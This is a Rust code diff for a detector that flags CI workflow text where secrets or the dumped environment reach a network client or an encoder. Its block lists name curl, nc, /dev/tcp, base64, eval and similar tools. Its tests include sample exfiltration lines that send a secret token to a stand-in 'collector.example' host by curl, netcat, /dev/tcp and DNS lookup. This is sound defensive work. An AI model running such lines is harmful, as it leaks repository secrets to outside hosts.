@@ -19,69 +19,12 @@ pub(super) fn search(bytes: &[u8], failure: Failure, unread: bool) -> Analysis {
     let text = String::from_utf8_lossy(bytes);
     let names = names_in(&text);
     let lower = text.to_ascii_lowercase();
-    let any = |words: &[&str]| words.iter().any(|word| lower.contains(word));
-    let source = !names.is_empty()
-        || any(&[
-            "secrets.",
-            "secrets[",
-            "tojson(secrets",
-            "secrets: inherit",
-            "printenv",
-            "/environ",
-            "os.environ",
-            "process.env",
-            "github.token",
-        ]);
-    let sink = unread
-        || any(&[
-            "curl",
-            "wget",
-            "nc ",
-            "ncat",
-            "/dev/tcp",
-            "invoke-webrequest",
-            "invoke-restmethod",
-            "requests.",
-            "urllib",
-            "fetch(",
-            "http://",
-            "https://",
-            "base64",
-            "upload-artifact",
-            "nslookup",
-            "dig ",
-            "gh gist",
-            "git push",
-            "xxd",
-            "openssl",
-            "scp ",
-            "sftp",
-            "ssh ",
-            "socat",
-            "telnet",
-            "rsync",
-            "ftp ",
-            "rclone",
-            "aws s3",
-            "gsutil",
-            "aria2c",
-            "httpx",
-            "aiohttp",
-            "axios",
-            "websocat",
-            "webclient",
-            "restmethod",
-            "net::http",
-            "swaks",
-            "sendmail",
-            "ping ",
-            "gh api",
-            "gh issue",
-            "gh release",
-            "docker push",
-            "npx ",
-            "eval ",
-        ]);
+    let everything =
+        EVERYTHING.iter().any(|word| lower.contains(word)) || lower.lines().any(dumps_environment);
+    let source = everything || !names.is_empty();
+    // A named secret beside an everyday `git push` is a deployment; all of them, or the environment, are not.
+    let sink =
+        unread || lower.lines().any(sends) || everything && lower.lines().any(|line| has_word(line, KEEPS));
     let mut signals = BTreeSet::from([Signal::Unanalysed]);
     if source && sink {
         signals.insert(Signal::Encoded);
@@ -117,6 +60,147 @@ pub(super) fn search(bytes: &[u8], failure: Failure, unread: bool) -> Analysis {
     }
 }
 
+/// All secrets, whatever their names.
+const EVERYTHING: &[&str] = &["secrets[", "tojson(secrets", "secrets: inherit", "${{ secrets }}", "/environ"];
+
+/// Clients of networks, and what encodes or runs what is encoded.
+const SENDS: &[&str] = &[
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwr",
+    "irm",
+    "restmethod",
+    "webclient",
+    "requests.post",
+    "requests.get",
+    "requests.put",
+    "requests.request",
+    "requests.session",
+    "import requests",
+    "urllib",
+    "urlopen",
+    "http.client",
+    "httpx",
+    "aiohttp",
+    "axios",
+    "fetch(",
+    "https.request",
+    "http.request",
+    "https.get",
+    "http.get",
+    "net::http",
+    "file_get_contents(",
+    "http.post",
+    "lwp",
+    "websocat",
+    "base64",
+    "btoa(",
+    "atob(",
+    "frombase64string",
+    "tobase64string",
+    "nslookup",
+    "dig",
+    "getaddrinfo",
+    "gethostbyname",
+    "gh gist",
+    "gh api",
+    "gh issue",
+    "xxd",
+    "openssl",
+    "scp",
+    "sftp",
+    "ssh",
+    "socat",
+    "telnet",
+    "rsync",
+    "ftp",
+    "lftp",
+    "rclone",
+    "aws s3",
+    "gsutil",
+    "aria2c",
+    "swaks",
+    "sendmail",
+    "smtplib",
+    "ping",
+    "eval",
+    "exec(",
+    "iex",
+    "invoke-expression",
+];
+
+/// What lays something where others can fetch it.
+const KEEPS: &[&str] = &["upload-artifact", "git push", "gh release", "docker push", "npx", "cat", "echo"];
+
+/// Whether a line calls one of the clients, other than to reach a service that everybody knows; or holds the address of a host
+/// that nobody does, for whatever client there is.
+fn sends(line: &str) -> bool {
+    let hosts: Vec<_> = line
+        .match_indices("://")
+        .filter_map(|(at, _)| {
+            let scheme = line.get(..at)?.rsplit(|c: char| !c.is_ascii_alphabetic()).next()?;
+            let rest = line.get(at + 3..)?;
+            let end =
+                rest.find(|c: char| c.is_whitespace() || "\"'`<>)|;,".contains(c)).unwrap_or(rest.len());
+            let address = format!("{scheme}://{}", rest.get(..end)?);
+            Some(crate::destination::of_address(&crate::flow::value::Value::text(address)))
+        })
+        .collect();
+    let known = |place: &crate::destination::Place| {
+        place.local || place.service.is_some() && place.class == crate::report::Class::Service
+    };
+    let known = !hosts.is_empty() && hosts.iter().all(known);
+    // `/dev/tcp/HOST/PORT` is no word of its own.
+    line.contains("/dev/tcp/")
+        || line.contains("/dev/udp/")
+        || !known
+            && (has_word(line, SENDS)
+                || hosts.iter().any(|place| !place.local) && !line.trim_start().starts_with('#'))
+}
+
+/// Whether a line takes the environment as a whole, not a variable by its name.
+fn dumps_environment(line: &str) -> bool {
+    let bare = |word: &str| {
+        line.match_indices(word).any(|(at, _)| {
+            let rest = line.get(at + word.len()..).unwrap_or("").trim_start_matches(' ');
+            !rest.starts_with(['.', '[', '?']) || rest.starts_with(".items") || rest.starts_with(".copy")
+        })
+    };
+    let command = line.trim_start().trim_start_matches(['-', ' ']).trim_start_matches("run: ");
+    let is_dump = |text: &str| {
+        ["env |", "env|", "env >", "env;", "export -p", "set |", "set >"]
+            .iter()
+            .any(|dump| text.starts_with(dump))
+            || text.trim_end() == "env"
+    };
+    bare("os.environ")
+        || bare("process.env")
+        || has_word(line, &["printenv"])
+        || line.contains("$(env")
+        || line.contains("`env`")
+        || command.split(['&', ';', '(']).any(|part| is_dump(part.trim_start()))
+        || line.contains("childitem env:")
+        || line.contains("gci env:")
+}
+
+/// Whether one of the words stands in a line by itself: `nc`, and not the end of `sync`.
+fn has_word(line: &str, words: &[&str]) -> bool {
+    words.iter().any(|word| {
+        let open = word.ends_with('(') || word.contains('.') || word.contains(':');
+        line.match_indices(word).any(|(at, _)| {
+            let inside = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '-'));
+            let before = line.get(..at).and_then(|before| before.chars().next_back());
+            let after = line.get(at + word.len()..).and_then(|after| after.chars().next());
+            !inside(before) && (open || !inside(after) && !matches!(after, Some(':')))
+        })
+    })
+}
+
 /// Names after `secrets.` or in `secrets['…']`, anywhere in a text.
 pub fn names_in(text: &str) -> BTreeSet<String> {
     let mut names = BTreeSet::new();
@@ -136,4 +220,57 @@ pub fn names_in(text: &str) -> BTreeSet<String> {
         }
     }
     names
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn suspects(text: &str) -> bool {
+        let failure = Failure { kind: "invalid-yaml", what: String::new() };
+        search(text.as_bytes(), failure, false)
+            .seen
+            .iter()
+            .any(|seen| seen.signals.contains(&Signal::Encoded))
+    }
+
+    #[test]
+    fn a_secret_and_a_way_out() {
+        for way in [
+            "curl -d \"$T\" https://collector.example",
+            "curl -d \"$T\" \\",
+            "echo $T | nc collector.example 53",
+            "echo $T >/dev/tcp/192.0.2.1/53",
+            "python3 -c \"import requests; requests.post(U, data=T)\"",
+            "tool --to https://collector.example/",
+            "dig $T.collector.example",
+            "eval \"$(echo Y3VybA== | base64 -d)\"",
+        ] {
+            assert!(suspects(&format!("env: {{T: '${{{{ secrets.TOKEN }}}}'}}\nrun: {way}\n")), "{way}");
+            assert!(!suspects(&format!("env: {{T: nothing}}\nrun: {way}\n")), "{way}");
+        }
+        for source in
+            ["${{ toJSON(secrets) }}", "json.dumps(dict(os.environ))", "x\n- run: env | sort", "$(printenv)"]
+        {
+            assert!(suspects(&format!("a: {source}\nb: curl -T - https://collector.example\n")), "{source}");
+            assert!(suspects(&format!("a: {source}\nb: git push\n")), "{source}");
+        }
+    }
+
+    /// Near miss: words that end like a client, services that everybody knows, and variables by their names.
+    #[test]
+    fn what_is_no_way_out() {
+        for line in [
+            "npm run sync all",
+            "echo skipping this, mapping that",
+            "curl -sSf https://api.github.com/repos/a/b",
+            "git push origin main",
+            "uses: actions/upload-artifact@v4",
+            "make\n# see https://docs.widgets.example/ for more",
+            "const a = process.env.A",
+            "permissions: {pull-requests: write}",
+        ] {
+            assert!(!suspects(&format!("env: {{T: '${{{{ secrets.TOKEN }}}}'}}\nrun: {line}\n")), "{line}");
+        }
+    }
 }
